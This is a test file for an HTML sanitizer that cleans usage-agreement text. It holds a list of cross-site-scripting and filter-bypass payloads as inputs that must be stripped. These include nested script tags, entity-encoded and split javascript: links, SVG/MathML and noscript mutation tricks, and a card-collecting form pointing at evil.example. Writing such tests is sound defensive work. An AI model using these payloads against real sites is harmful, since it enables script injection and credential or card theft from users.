import { safeHtml, saysSomething } from '#subgraphs/identity/settings/usage-agreement/safe-html.js';

const LINK_MARKS = 'rel="noopener noreferrer nofollow" target="_blank"';

describe('keeps the elements of an agreement', () => {
  test.each([
    ['headings and paragraphs', '<h1>A</h1><h2>B</h2><p>C <strong>D</strong> <em>E</em><br />F</p>'],
    ['lists', '<ul><li>a</li></ul><ol start="3" type="a"><li>b</li></ol><dl><dt>c</dt><dd>d</dd></dl>'],
    [
      'tables',
      '<table><thead><tr><th colspan="2" scope="col">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
    ],
    ['text beyond ASCII', '<p>Größe · 部屋 · غرفة · 🏠</p>'],
    ['text that looks like markup', '<p>1 &lt; 2 &amp; 3 &gt; 2</p>'],
    ['an absolute link', `<a href="https://example.com/a?b=1" ${LINK_MARKS} title="t">x</a>`],
    ['a mail link', `<a href="mailto:host@example.com" ${LINK_MARKS}>x</a>`],
  ])('%s', (_title, html) => expect(safeHtml(html)).toBe(html));
});

describe('removes everything that could run, load, submit or restyle', () => {
  test.each([
    ['a script', '<p>a</p><script>x()</script>', '<p>a</p>'],
    ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>a', 'a'],
    ['a script within a script', '<scr<script>x()</script>ipt>y()</script>a', 'x()ipt&gt;y()a'],
    ['an unclosed script', 'a<script>x()', 'a'],
    ['a handler', '<p onclick="x()" onmouseover=x()>a</p>', '<p>a</p>'],
    ['a handler after a slash', '<p/onclick=x()>a</p>', '<p>a</p>'],
    ['an image with a handler', 'a<img src=x onerror=x()>', 'a'],
    ['a tracking image', 'a<img src="https://evil.example/pixel.gif">', 'a'],
    ['a javascript link', '<a href="javascript:x()">a</a>', '<a>a</a>'],
    ['a split javascript link', '<a href="java\n\tscript:x()">a</a>', '<a>a</a>'],
    ['a javascript link in entities', '<a href="&#106;&#x61;vascript&colon;x()">a</a>', '<a>a</a>'],
    ['a javascript link after a control character', '<a href="\u0001javascript:x()">a</a>', '<a>a</a>'],
    ['a data link', '<a href="data:text/html,<script>x()</script>">a</a>', '<a>a</a>'],
    ['a vbscript link', '<a href="VBScript:x()">a</a>', '<a>a</a>'],
    ['a link to the portal itself', '<a href="/portal/x">a</a>', '<a>a</a>'],
    ['a link without a scheme', '<a href="//evil.example">a</a>', '<a>a</a>'],
    ['an iframe', '<iframe src="https://evil.example">b</iframe>a', 'a'],
    ['an iframe with a document', '<iframe srcdoc="<script>x()</script>"></iframe>a', 'a'],
    ['a form', '<form action="https://evil.example"><input name="card"><button>Pay</button></form>a', 'a'],
    ['an object', '<object data="x.swf">b</object><embed src="x.swf">a', 'a'],
    ['an svg', '<svg onload="x()"><script>y()</script><a xlink:href="javascript:z()">b</a></svg>a', 'a'],
    ['maths', '<math><mtext><style><img src=x onerror=x()></style></mtext></math>a', 'a'],
    ['a style sheet', '<style>@import "https://evil.example"</style><p style="position:fixed">a</p>', '<p>a</p>'],
    ['a base and a refresh', '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil">a', 'a'],
    ['a comment', 'a<!--[if IE]><script>x()</script><![endif]-->', 'a'],
    ['a template', '<template><script>x()</script></template>a', 'a'],
    [
      'markup that parsers read differently',
      '<noscript><p title="</noscript><img src=x onerror=x()>">b</p></noscript>a',
      'a',
    ],
    ['names that the page uses', '<p id="__proto__" class="x" name="y">a</p>', '<p>a</p>'],
  ])('%s', (_title, html, expected) => {
    const safe = safeHtml(html);
    expect(safe).toBe(expected);
    expect(safeHtml(safe)).toBe(safe);
  });
});

test.each([
  ['<p>a</p>', true],
  ['0', true],
  ['', false],
  ['<p>&nbsp; \n</p><hr />', false],
])('whether %j has visible content: %s', (html, says) => expect(saysSomething(html)).toBe(says));
